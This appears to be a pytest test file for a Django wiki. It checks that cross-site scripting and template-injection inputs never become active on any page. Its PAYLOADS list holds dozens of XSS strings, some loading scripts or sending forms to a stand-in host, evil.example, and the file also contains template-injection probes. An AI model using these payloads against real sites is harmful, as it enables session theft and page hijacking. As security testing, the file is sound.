"""Whatever people type, wherever they may type it: nothing of it acts, on no page."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from django.test import Client

from articles import access
from articles.models import Proposal
from tests import factories
from tests.pages import Page

pytestmark = [pytest.mark.django_db, pytest.mark.alike]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/p.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](/wiki/A "onmouseover=alert(1)")',
    '![a" onerror="alert(1)](x.png)',
    '<p onclick="alert(1)">x</p>',
    "<p style='background:url(//evil.example)'>x</p>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "[[A|<script>alert(1)</script>]]",
    '[[A" onmouseover="alert(1)]]',
    "{{stub|<img src=x onerror=alert(1)>}}",
    "[[Category:<script>alert(1)</script>]]",
    '[[File:x.png" onerror="alert(1)]]',
    "{{<script>alert(1)</script>}}",
    '[@pmid:1"><script>alert(1)</script>]',
    '[@doi:10.1/"><img src=x onerror=alert(1)>]',
    '[^"><script>alert(1)</script>]: x',
    "*[<script>]: <img src=x onerror=alert(1)>",
    "# h {onclick=alert(1)}",
    "x {: onclick=alert(1) style=x }",
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "{{ 7*7 }}{% debug %}${7*7}",
]
EACH = pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))


def faults(browser: Client, *paths: str) -> dict[str, list[str]]:
    return {path: found for path in paths if (found := Page(browser.get(path)).faults())}


@EACH
def test_nothing_in_a_text_or_a_summary_acts(editor_client: Client, payload: str):
    table = f"| a |\n|---|\n| {payload} |"
    text = f"Lead {payload}\n\n{payload}\n\n## Heading {payload}\n\n- {payload}\n\n{table}\n\n{payload}"
    edit = factories.save("Hostile", text, base=0, summary=payload[:400])
    previewed = editor_client.post(
        "/edit/Hostile", {"text": f"{text} x", "base": edit.pk, "summary": payload, "action": "preview"}
    )
    changed = editor_client.post("/edit/Hostile", {"text": f"{text} x", "base": edit.pk, "action": "changes"})
    assert Page(previewed).faults() == Page(changed).faults() == []
    assert previewed.status_code in (200, 422) and Page(previewed).fields()["text"].replace("\r", "") == f"{text} x"
    paths = [
        "/wiki/Hostile",
        f"/wiki/Hostile?version={edit.pk}",
        "/edit/Hostile",
        "/history/Hostile",
        "/recent",
        "/",
        f"/compare/previous/{edit.pk}",
        "/search?full=1&q=Lead",
        "/wiki/Hostil",
    ]
    assert faults(editor_client, *paths) == {}


@EACH
def test_nothing_in_a_question_an_address_or_a_name_acts(client: Client, payload: str):
    factories.article("Asthma")
    sent = quote(payload, safe="")
    paths = [
        f"/search?q={sent}&full=1",
        f"/wiki/Asthma?from={sent}",
        f"/wiki/{sent}",
        f"/edit/{sent}",
        f"/history/{sent}",
        f"/category/{sent}",
        f"/category/Lungs?after={sent}",
        f"/index/{sent}",
        f"/edit/Asthma?section={sent}",
        f"/accounts/login/?next={sent}",
        f"/edit/Asthma?editor={sent}",
        f"/nowhere/{sent}",
    ]
    answers = {path: client.get(path) for path in paths}
    shown = {path: Page(answer) for path, answer in answers.items() if answer.status_code not in (301, 302)}
    assert {path: found for path, page in shown.items() if (found := page.faults())} == {}


@EACH
def test_nothing_in_a_proposal_or_its_refusal_acts(reviewer_client: Client, payload: str):
    article = factories.article("Asthma")
    stranger = Client()
    stranger.post(
        "/edit/Asthma",
        {"text": f"x {payload}", "base": article.current_edit_id, "section": "0", "summary": payload[:400]},
    )
    proposal = Proposal.objects.get()
    before = faults(reviewer_client, "/proposals/", proposal.get_absolute_url())
    reviewer_client.post(proposal.get_absolute_url(), {"decision": "decline", "reason": payload})
    assert before == faults(stranger, "/proposals/", proposal.get_absolute_url()) == {}


@pytest.mark.parametrize(
    "title",
    ["A \"quoted\" onmouseover='alert(1)'", "A & <- b", "Javascript:alert(1)", "A'b`c", "{% debug %}", "A&lt;b&gt;"],
)
def test_nothing_in_a_title_acts_where_a_title_is_allowed(editor_client: Client, title: str):
    answer = editor_client.post(f"/edit/{quote(title, safe='')}", {"text": f"Lead [[{title}]].\n", "base": "0"})
    paths = [f"/wiki/{quote(title.replace(' ', '_'), safe='')}", "/", "/recent", "/index/A", "/search?full=1&q=Lead"]
    assert answer.status_code in (303, 422) and Page(answer).live() == []
    assert faults(editor_client, *paths) == {}


@pytest.mark.parametrize("name", ['O\'Brien & "co"', "A onclick=alert(1)", "&lt;b&gt;", "{{ 7*7 }}"])
def test_nothing_in_a_name_acts(name: str):
    author = access.imported_author(name)
    edit = factories.save("Named", "Text.\n", base=0, author=author)
    paths = [
        "/wiki/Named",
        "/history/Named",
        "/recent",
        f"/wiki/Named?version={edit.pk}",
        f"/compare/previous/{edit.pk}",
    ]
    assert faults(Client(), *paths) == {}
    assert name in Page(Client().get("/wiki/Named")).words


@pytest.mark.parametrize("name", ["<script>alert(1)</script>", "</title>", "<img src=x onerror=alert(1)>"])
def test_not_even_a_name_that_nobody_can_register_acts(name: str):
    factories.save("Named", "Text.\n", base=0, author=access.imported_author(name))
    assert faults(Client(), "/wiki/Named", "/history/Named", "/recent") == {}


def test_no_text_is_a_template():
    factories.article(
        "Template",
        "{{ request.user }} {% url 'articles:main' %} {{ 7|add:7 }} ${7*7} <%= 7*7 %>\n\n## {{ 7|add:7 }}\n\nx\n",
    )
    page = Page(Client().get("/wiki/Template"))
    assert "14" not in page.article and "49" not in page.article and "Anonymous" not in page.article
